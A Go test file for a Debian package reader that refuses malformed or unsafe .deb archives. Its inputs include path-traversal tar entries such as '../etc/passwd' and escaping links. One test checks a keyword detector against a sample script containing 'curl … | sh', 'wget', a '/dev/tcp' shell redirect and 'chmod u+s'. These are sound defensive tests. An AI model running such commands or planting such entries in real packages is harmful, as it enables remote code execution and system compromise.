package artefact

import (
	"archive/tar"
	"bytes"
	"errors"
	"fmt"
	"math/rand/v2"
	"reflect"
	"slices"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/patchwrit/patchwrit/canon"
	"github.com/patchwrit/patchwrit/change"
	"github.com/patchwrit/patchwrit/refusal"
	"github.com/patchwrit/patchwrit/unpack"
)

func TestASoundDebIsRead(t *testing.T) {
	for _, format := range []unpack.Format{unpack.Plain, unpack.Gzip, unpack.XZ, unpack.Zstd} {
		p := sound()
		p.format = format
		c := p.mustOpen(t)
		if got, want := fmt.Sprint(c.Package, " ", c.Version, " ", c.Arch, " ", c.Source, " ", c.SourceVersion, " ", c.Maintainer, " ", c.Essential, " ", c.Key()),
			"libgov1 1.2.3-1 amd64 gov 1.2.3-1 Gov Team <gov@lists.example.org> false libgov1:amd64"; got != want {
			t.Errorf("%q: %s, want %s", format, got, want)
		}
		if d, _ := c.field("DESCRIPTION"); d != "a library\nand more\n.\nof it" || len(c.Fields) != 8 || c.Fields[0].Name != "Architecture" {
			t.Errorf("fields %+v", c.Fields)
		}
		if len(c.Scripts) != 1 || c.Scripts[0].Name != "postinst" || c.Scripts[0].Digest != canon.SumFile([]byte(p.scripts["postinst"])) {
			t.Errorf("scripts %+v", c.Scripts)
		}
		if !slices.Equal(c.Conffiles, []string{"/etc/gov.conf"}) || !slices.Equal(c.Triggers, []string{"activate-noawait ldconfig"}) || !slices.Equal(c.Extra, []string{"md5sums"}) {
			t.Errorf("%v %v %v", c.Conffiles, c.Triggers, c.Extra)
		}
		var paths []string
		for _, f := range c.Files {
			paths = append(paths, f.Path)
		}
		if got, want := strings.Join(paths, " "), "/etc /etc/gov.conf /usr /usr/bin /usr/bin/gov /usr/lib /usr/lib/libgov.so.1 /usr/lib/libgov.so.1.2 /usr/share /usr/share/doc /usr/share/doc/copyright"; got != want {
			t.Errorf("files %s", got)
		}
		conf := File{"/etc/gov.conf", Regular, 0o644, "root", "root", 4, canon.SumFile([]byte("x=1\n")), ""}
		if c.Files[1] != conf || c.Files[6].Link != "libgov.so.1.2" || c.Files[6].Kind != Symlink || c.Files[0].Kind != Dir {
			t.Errorf("files %+v", c.Files)
		}
		lib := Object{"/usr/lib/libgov.so.1.2", "libgov.so.1", []string{"libc.so.6"}, []string{"gov_new@GOV_1", "gov_old@GOV_1", "gov_plain"}, []Import{{"malloc", "GLIBC_2.2.5", "libc.so.6"}}}
		if len(c.Objects) != 2 || !reflect.DeepEqual(c.Objects[1], lib) || len(c.Unread) != 0 {
			t.Errorf("objects %+v, unread %v", c.Objects, c.Unread)
		}
	}
}

func TestLinksDevicesAndOwners(t *testing.T) {
	p := sound()
	p.add(dir("dev"), entry{name: "dev/null", kind: tar.TypeChar, dev: 1}, entry{name: "dev/sda", kind: tar.TypeBlock, dev: 8}, entry{name: "dev/pipe", kind: tar.TypeFifo},
		entry{name: "usr/bin/su", body: "su", mode: 0o4755}, entry{name: "usr/bin/su2", kind: tar.TypeLink, link: "./usr/bin/su", mode: 0o600},
		entry{name: "usr/bin/mine", user: "games"}, dir("usr/bin")) // a directory twice is no matter
	c := p.mustOpen(t)
	at := map[string]File{}
	for _, f := range c.Files {
		at[f.Path] = f
	}
	if f := at["/dev/null"]; f.Kind != CharDev || f.Link != "1:0" {
		t.Errorf("%+v", f)
	}
	if f := at["/dev/sda"]; f.Kind != BlockDev || f.Link != "8:0" {
		t.Errorf("%+v", f)
	}
	if f := at["/dev/pipe"]; f.Kind != Fifo {
		t.Errorf("%+v", f)
	}
	if f := at["/usr/bin/su2"]; f.Kind != Hardlink || f.Link != "/usr/bin/su" || f.Mode != 0o4755 || f.Digest != canon.SumFile([]byte("su")) || f.Size != 2 {
		t.Errorf("%+v", f)
	}
	if f := at["/usr/bin/mine"]; f.Owner != "games" || f.Group != "root" {
		t.Errorf("%+v", f)
	}
}

// TestRefusalsOfDebs breaks one thing at a time; the unbroken twin must pass.
func TestRefusalsOfDebs(t *testing.T) {
	if _, err := sound().open(t); err != nil {
		t.Fatal("control: ", err)
	}
	set := func(name, value string) func(*pkg) { return func(p *pkg) { p.fields[name] = value } }
	data := func(e ...entry) func(*pkg) { return func(p *pkg) { p.add(e...) } }
	control := func(e ...entry) func(*pkg) {
		return func(p *pkg) { p.control = func(all []entry) []entry { return append(all, e...) } }
	}
	parts := func(f func([]part) []part) func(*pkg) { return func(p *pkg) { p.parts = f } }
	raw := func(f func([]byte) []byte) func(*pkg) { return func(p *pkg) { p.raw = f } }
	text := func(text string) func(*pkg) {
		return func(p *pkg) { p.control = func([]entry) []entry { return []entry{{name: "control", body: text}} } }
	}
	const minimal = "Package: a\nVersion: 1\nArchitecture: all\n"
	deep := strings.Repeat("a/", MaxDepth)
	for _, c := range []struct {
		name   string
		code   refusal.Code
		broken func(*pkg)
	}{
		{"nothing", codeLimit, raw(func([]byte) []byte { return nil })},
		{"another magic", codeAr, raw(func(b []byte) []byte { b[0] = '?'; return b })},
		{"a broken header", codeAr, raw(func(b []byte) []byte { b[8+58] = '?'; return b })},
		{"a size that is no number", codeAr, raw(func(b []byte) []byte { copy(b[8+48:], "abc "); return b })},
		{"a size below nothing", codeAr, raw(func(b []byte) []byte { copy(b[8+48:], "-4  "); return b })},
		{"a size beyond the end", codeAr, raw(func(b []byte) []byte { copy(b[8+48:], "99999999"); return b })},
		{"half a header", codeMember, raw(func(b []byte) []byte { return b[:8+30] })},
		{"two members", codeMember, parts(func(p []part) []part { return p[:2] })},
		{"four members", codeMember, parts(func(p []part) []part { return append(p, p[2]) })},
		{"a signature behind the members", codeMember, parts(func(p []part) []part { return append(p, part{"_gpgorigin", []byte("x")}) })},
		{"another first member", codeMember, parts(func(p []part) []part { p[0].name = "debian_binary"; return p })},
		{"data before control", codeMember, parts(func(p []part) []part { p[1], p[2] = p[2], p[1]; return p })},
		{"a compression nobody knows", codeMember, parts(func(p []part) []part { p[2].name = "data.tar.lzma"; return p })},
		{"another name", codeMember, parts(func(p []part) []part { p[1].name = "contrl.tar.gz"; return p })},
		{"format 3", codeFormat, parts(func(p []part) []part { p[0].body = []byte("3.0\n"); return p })},
		{"a longer format", codeFormat, parts(func(p []part) []part { p[0].body = []byte("2.0\nmore\n"); return p })},
		{"no format", codeFormat, parts(func(p []part) []part { p[0].body = nil; return p })},
		{"another compression than named", codeUnpack, parts(func(p []part) []part { p[2].name = "data.tar.xz"; return p })},
		{"a cut stream", codeUnpack, parts(func(p []part) []part { p[2].body = p[2].body[:len(p[2].body)-9]; return p })},
		{"no archive", codeTar, parts(func(p []part) []part { p[2].body = pack(t, unpack.Gzip, []byte(strings.Repeat("x", 2048))); return p })},
		{"a cut archive", codeTar, func(p *pkg) {
			p.parts = func(q []part) []part { q[2].body = pack(t, unpack.Gzip, tarball(t, p.files...)[:1000]); return q }
		}},
		{"something behind the archive", codeTar, func(p *pkg) {
			p.parts = func(q []part) []part {
				q[2].body = pack(t, unpack.Gzip, append(tarball(t, p.files...), "hidden"...))
				return q
			}
		}},
		{"an endless name", codeTar, data(entry{name: strings.Repeat("x", 1<<20+1)})},
		{"a PAX header", codeType, data(entry{name: "usr/bin/x", pax: true})},
		{"a global PAX header", codeType, data(entry{name: "pax_global_header", kind: tar.TypeXGlobalHeader, pax: true})},
		{"a contiguous file", codeType, data(entry{name: "usr/bin/x", kind: tar.TypeCont})},

		{"a climbing path", codePath, data(entry{name: "../etc/passwd"})},
		{"a climb in the middle", codePath, data(entry{name: "usr/../../etc/passwd"})},
		{"an absolute path", codePath, data(entry{name: "/etc/passwd"})},
		{"a path with two spellings", codePath, data(entry{name: "usr//bin/x"})},
		{"a long name", codePath, data(entry{name: strings.Repeat("x", MaxName+1)})},
		{"a long path", codePath, data(entry{name: strings.Repeat(strings.Repeat("x", 100)+"/", MaxPath/101+1) + "x"})},
		{"a deep path", codePath, data(entry{name: deep + "x"})},
		{"a root that is a link", codePath, func(p *pkg) { p.files[0] = symlink(".", "/tmp") }},
		{"a file twice", codeTwice, data(entry{name: "etc/gov.conf", body: "x=1\n"})},
		{"a directory that is also a file", codeTwice, data(entry{name: "usr/lib"})},
		{"a directory twice with other modes", codeTwice, data(entry{name: "usr/lib/", kind: tar.TypeDir, mode: 0o777})},
		{"a hard link to nothing", codeLink, data(entry{name: "x", kind: tar.TypeLink, link: "./etc/passwd"})},
		{"a hard link to a directory", codeLink, data(entry{name: "x", kind: tar.TypeLink, link: "./usr/lib"})},
		{"a hard link to a symbolic one", codeLink, data(entry{name: "x", kind: tar.TypeLink, link: "./usr/lib/libgov.so.1"})},
		{"a hard link out", codePath, data(entry{name: "x", kind: tar.TypeLink, link: "../../etc/passwd"})},
		{"an absolute hard link", codePath, data(entry{name: "x", kind: tar.TypeLink, link: "/etc/passwd"})},
		{"a path through a link", codeLink, data(symlink("usr/share/x", "/etc"), entry{name: "usr/share/x/shadow"})},
		{"a path far through a link", codeLink, data(symlink("usr/share/x", "/etc"), entry{name: "usr/share/x/y/z"})},
		{"a path through a file", codeLink, data(entry{name: "usr/bin/gov/x"})},

		{"no control file", codeControl, func(p *pkg) { p.control = func([]entry) []entry { return []entry{dir(".")} } }},
		{"no package", codeControl, text("Version: 1\nArchitecture: all\n")},
		{"no version", codeControl, text("Package: a\nArchitecture: all\n")},
		{"no architecture", codeControl, text("Package: a\nVersion: 1\n")},
		{"an odd package", codeControl, set("Package", "../a")},
		{"an odd version", codeControl, set("Version", "a:b")},
		{"an odd source", codeControl, set("Source", "a b")},
		{"an odd source version", codeControl, set("Source", "a (b:c)")},
		{"a field twice", codeControl, text(minimal + "package: b\n")},
		{"two paragraphs", codeControl, text(minimal + "\nPackage: b\n")},
		{"a carriage return", codeControl, text(minimal + "X: y\r\n")},
		{"a first line that goes on", codeControl, text(" x\n" + minimal)},
		{"a line that is no field", codeControl, text(minimal + "hello\n")},
		{"a comment", codeControl, text(minimal + "#x: y\n")},
		{"a name with a space", codeControl, text(minimal + "x y: z\n")},
		{"too many fields", codeLimit, text(minimal + manyFields())},
		{"a huge control file", codeLimit, text(minimal + "X: " + strings.Repeat("x", MaxText) + "\n")},
		{"a huge script", codeLimit, func(p *pkg) { p.scripts["preinst"] = strings.Repeat("x", MaxText+1) }},
		{"a huge list", codeLimit, func(p *pkg) { p.scripts["conffiles"] = strings.Repeat("x", MaxText+1) }},
		{"control twice", codeTwice, control(entry{name: "control", body: minimal})},
		{"a script twice", codeTwice, control(entry{name: "postinst"})},
		{"conffiles twice", codeTwice, control(entry{name: "conffiles"})},
		{"triggers twice", codeTwice, control(entry{name: "triggers"})},
		{"md5sums twice", codeTwice, control(entry{name: "md5sums"})},
		{"a script that is a link", codeType, control(symlink("prerm", "/bin/sh"))},
		{"a directory in control", codeType, control(dir("x"))},
		{"a file in a directory in control", codeType, control(entry{name: "x/y"})},
		{"a climbing path in control", codePath, control(entry{name: "../x"})},
		{"too many parts of control", codeLimit, func(p *pkg) {
			p.control = func(all []entry) []entry {
				for i := range MaxParts {
					all = append(all, entry{name: fmt.Sprint("x", i)})
				}
				return all
			}
		}},
	} {
		t.Run(c.name, func(t *testing.T) {
			p := sound()
			c.broken(p)
			got, err := p.open(t)
			wantCode(t, err, c.code)
			if !reflect.DeepEqual(got, Contents{}) {
				t.Error("a refused artefact answers")
			}
		})
	}
	if _, err := Open(bytes.NewReader(nil), change.MaxArtefact+1); refusal.CodeOf(err) != codeLimit {
		t.Errorf("a huge artefact: %v", err)
	}
}

func manyFields() string {
	var b strings.Builder
	for i := range MaxFields {
		fmt.Fprintf(&b, "X%d: y\n", i)
	}
	return b.String()
}

func TestLimitsOfTheTree(t *testing.T) {
	add := func(tr *tree, name string) error {
		e := entry{name: name}
		return tr.add(member{e.header(), strings.NewReader("")})
	}
	if err := add(&tree{at: map[string]int{}, left: 2}, "x"); err != nil {
		t.Error("control: ", err)
	}
	wantCode(t, add(&tree{at: map[string]int{}, left: 1}, "x"), codeLimit)
	a := archive{name: "x.tar", r: bytes.NewReader(tarball(t, entry{name: "a"}, entry{name: "b"})), size: int64(len(tarball(t, entry{name: "a"}, entry{name: "b"})))}
	nothing := func(member) error { return nil }
	if err := a.each(2, 1<<20, nothing); err != nil {
		t.Error("control: ", err)
	}
	wantCode(t, a.each(1, 1<<20, nothing), codeLimit)
	wantCode(t, a.each(2, 1000, nothing), codeLimit)
}

// TestBrokenDisks reads from sources that fail at some place.
func TestBrokenDisks(t *testing.T) {
	b := sound().bytes(t)
	for at := range len(b) - 1 { // the last byte may be padding, which nobody needs
		_, err := Open(breaksAt{b, int64(at)}, int64(len(b)))
		if refusal.CodeOf(err) == "" {
			t.Fatalf("broken at %d of %d: %v", at, len(b), err)
		}
	}
	if _, err := Open(breaksAt{b, int64(len(b))}, int64(len(b))); err != nil {
		t.Error("control: ", err)
	}
	for _, at := range []int64{0, 20, 70, 75, 140} {
		_, err := Open(breaksAt{b, at}, int64(len(b)))
		wantCode(t, err, codeRead)
	}
}

// TestOneBadSector fails only where debian-binary's text lies.
func TestOneBadSector(t *testing.T) {
	b := sound().bytes(t)
	_, err := Open(badSector{b, int64(len(arMagic) + arHeader)}, int64(len(b)))
	wantCode(t, err, codeRead)
}

type badSector struct {
	b  []byte
	at int64
}

func (r badSector) ReadAt(p []byte, at int64) (int, error) {
	if at == r.at {
		return 0, errors.New("bad sector")
	}
	return bytes.NewReader(r.b).ReadAt(p, at)
}

type breaksAt struct {
	b  []byte
	at int64
}

func (r breaksAt) ReadAt(p []byte, at int64) (int, error) {
	if at+int64(len(p)) > r.at {
		n := 0
		if at < r.at {
			n = copy(p, r.b[at:r.at])
		}
		return n, errors.New("disk on fire")
	}
	return bytes.NewReader(r.b).ReadAt(p, at)
}

func TestReadGivesSingleFiles(t *testing.T) {
	p := sound()
	b := p.bytes(t)
	read := func(b []byte, limit int64, want func(string) bool) (map[string][]byte, error) {
		return Read(bytes.NewReader(b), int64(len(b)), limit, want)
	}
	doc := func(path string) bool {
		return strings.HasPrefix(path, "/usr/share/doc") || path == "/usr/lib/libgov.so.1"
	}
	got, err := read(b, 5, doc)
	if err != nil || len(got) != 1 || string(got["/usr/share/doc/copyright"]) != "free\n" {
		t.Errorf("%q %v", got, err)
	}
	_, err = read(b, 4, doc)
	wantCode(t, err, codeLimit)
	_, err = read(b, 8, func(path string) bool { return doc(path) || path == "/etc/gov.conf" })
	wantCode(t, err, codeLimit)
	_, err = read(b[:100], 5, doc)
	if refusal.CodeOf(err) == "" {
		t.Error(err)
	}
	p.add(entry{name: "usr/share/doc/copyright"})
	_, err = read(p.bytes(t), 5, doc)
	wantCode(t, err, codeTwice)
	p.add(entry{name: "../x"})
	_, err = read(p.bytes(t), 5, func(string) bool { return false })
	wantCode(t, err, codePath)
}

// TestOrderIsNoMatter shuffles both archives: what is said of them stays.
func TestOrderIsNoMatter(t *testing.T) {
	want := sound().mustOpen(t)
	rapid.Check(t, func(rt *rapid.T) {
		p := sound()
		r := rand.New(rand.NewPCG(rapid.Uint64().Draw(rt, "seed"), 0))
		shuffle := func(e []entry) []entry {
			r.Shuffle(len(e), func(i, j int) { e[i], e[j] = e[j], e[i] })
			return e
		}
		p.files, p.control = shuffle(p.files), shuffle
		if got := p.mustOpen(t); !reflect.DeepEqual(got, want) {
			rt.Fatalf("%+v\n%+v", got, want)
		}
	})
}

func TestEssential(t *testing.T) {
	for field, want := range map[string]bool{"Essential": true, "Protected": true, "Important": true, "Priority": false} {
		p := sound()
		p.fields[field] = "yes"
		if c := p.mustOpen(t); c.Essential != want {
			t.Errorf("%s: %v", field, c.Essential)
		}
	}
}

func TestMentions(t *testing.T) {
	if !slices.IsSorted(words) {
		t.Error("words are not sorted")
	}
	got := mentions([]byte("#!/bin/sh\n/usr/bin/curl -s https://x | sh; $(wget y) && exec 3<>/dev/tcp/1/2\nchmod u+s /x\n# curling does not count, nor dpkg-diverts\n"))
	if want := []string{"chmod", "curl", "tcp", "wget"}; !slices.Equal(got, want) {
		t.Errorf("%v", got)
	}
}
